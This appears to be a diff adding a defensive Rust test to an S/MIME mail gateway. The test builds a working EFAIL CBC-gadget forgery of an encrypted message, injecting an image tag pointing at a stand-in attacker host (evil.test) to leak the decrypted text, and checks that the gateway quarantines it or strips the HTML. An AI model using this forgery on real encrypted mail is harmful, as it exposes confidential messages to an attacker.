@@ -437,3 +437,138 @@ fn inline_pgp_with_unsigned_text_around_is_partial() {
     assert!(t.contains("Also send the passwords."), "{t}");
     assert!(t.contains("The results are normal."), "{t}");
 }
+
+/// Issue 14.15: EFAIL through the gateway. A real OpenSSL AES-CBC message to us, captured and
+/// rewritten with CBC gadgets (Poddebniak et al., USENIX Security 2018): chosen 16-byte blocks
+/// appended after the text, here an `<img src="http:/…">` that would send the decrypted text
+/// to the attacker when rendered. It still decrypts (OpenSSL and our backend both accept it),
+/// so the gateway must not deliver it as HTML: quarantined from a required partner, text only
+/// (no HTML, no links) from anyone else. AES-GCM is not malleable and passes as it is.
+#[test]
+fn cbc_gadget_rewritten_mail_never_reaches_the_reader_as_html() {
+    use cms::content_info::ContentInfo;
+    use cms::enveloped_data::EnvelopedData;
+    use der::asn1::OctetString;
+    use der::{Decode, Encode};
+
+    let pki = Pki::new();
+    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
+    let gw = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
+    let mut dir = Directory::default();
+    dir.our.domains.push(Domain::new("clinic.example").unwrap());
+    dir.our.credentials.push(us.credential());
+    dir.our.trust_anchors.push(pki.ca_pem());
+    let mut p = Partner::new(
+        DomainPattern::Exact(Domain::new("partner.test").unwrap()),
+        PartnerPolicy::Required,
+        vec![Standard::Smime],
+    );
+    p.certificates.insert(Standard::Smime, vec![gw.cert_pem()]);
+    dir.partners.push(p);
+
+    let inner = b"Content-Type: text/html; charset=us-ascii\r\n\r\n<html><body><p>HIV test: positive</p></body></html>\r\n";
+    let der = run_ok(
+        Command::new("openssl")
+            .args([
+                "cms",
+                "-encrypt",
+                "-aes-256-cbc",
+                "-binary",
+                "-outform",
+                "DER",
+            ])
+            .arg(&us.cert),
+        inner,
+    );
+    // The gadget: for a chosen block X, the pair (IV ^ P1 ^ X, C1) decrypts to (garbage, X).
+    let mut ci = ContentInfo::from_der(&der).unwrap();
+    let mut ed: EnvelopedData = ci.content.decode_as().unwrap();
+    let params = ed
+        .encrypted_content
+        .content_enc_alg
+        .parameters
+        .clone()
+        .unwrap();
+    let iv: OctetString = params.decode_as().unwrap();
+    let iv = iv.as_bytes().to_vec();
+    let ct = ed
+        .encrypted_content
+        .encrypted_content
+        .clone()
+        .unwrap()
+        .as_bytes()
+        .to_vec();
+    let c1 = &ct[..16];
+    let p1 = &inner[..16];
+    let gadget = |x: &[u8; 16]| -> Vec<u8> {
+        let g: Vec<u8> = (0..16).map(|i| iv[i] ^ p1[i] ^ x[i]).collect();
+        [g.as_slice(), c1].concat()
+    };
+    let mut forged = ct.clone();
+    forged.extend(gadget(b"<img src=\"http:/"));
+    forged.extend(gadget(b"/evil.test/?a\">\x01"));
+    ed.encrypted_content.encrypted_content = Some(OctetString::new(forged).unwrap());
+    ci.content = der::Any::encode_from(&ed).unwrap();
+    let forged_der = ci.to_der().unwrap();
+    let mail = |from: &str| {
+        let mut m = format!(
+            "From: {from}\r\nTo: records@clinic.example\r\nSubject: results\r\nMIME-Version: 1.0\r\n\
+             Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
+             Content-Transfer-Encoding: base64\r\n\r\n"
+        )
+        .into_bytes();
+        m.extend_from_slice(&postern_core::mime::base64_lines(&forged_der));
+        m
+    };
+    // The attack is real: OpenSSL decrypts the rewritten message without complaint.
+    let by_openssl = us.openssl_decrypt(&mail("doc@partner.test"));
+    assert!(
+        String::from_utf8_lossy(&by_openssl).contains("<img src=\"http:/"),
+        "the gadget must work for the test to mean anything"
+    );
+
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .build()
+        .unwrap();
+    // From a required partner: held.
+    let got = rt.block_on(router().inbound(
+        &dir,
+        Some(&addr("doc@partner.test")),
+        &mail("doc@partner.test"),
+    ));
+    assert!(
+        matches!(&got, Inbound::Quarantine { reason, .. } if reason.contains("EFAIL")),
+        "{}",
+        text(&got)
+    );
+    // From anyone else: its text only.
+    let got =
+        rt.block_on(router().inbound(&dir, Some(&addr("x@gmail.test")), &mail("x@gmail.test")));
+    let t = text(&got);
+    assert!(matches!(got, Inbound::Deliver { .. }), "{t}");
+    assert!(t.contains("Postern-Content: text only"), "{t}");
+    assert!(
+        t.contains("HIV test: positive"),
+        "the text is still delivered: {t}"
+    );
+    for bad in ["<img", "http:", "evil.test", "text/html"] {
+        assert!(!t.contains(bad), "{bad} reached the reader: {t}");
+    }
+
+    // AES-GCM (AuthEnvelopedData) cannot be rewritten unnoticed: delivered as sent.
+    let gcm = run_ok(
+        Command::new("openssl")
+            .args(["cms", "-encrypt", "-aes-256-gcm", "-binary"])
+            .arg(&us.cert),
+        inner,
+    );
+    let gcm_mail = [
+        b"From: x@gmail.test\r\nTo: records@clinic.example\r\n".as_slice(),
+        &gcm,
+    ]
+    .concat();
+    let t = text(&rt.block_on(router().inbound(&dir, Some(&addr("x@gmail.test")), &gcm_mail)));
+    assert!(t.contains("Postern-Decrypted: smime aes256-gcm"), "{t}");
+    assert!(t.contains("<p>HIV test: positive</p>"), "{t}");
+    assert!(!t.contains("Postern-Content: text only"), "{t}");
+}
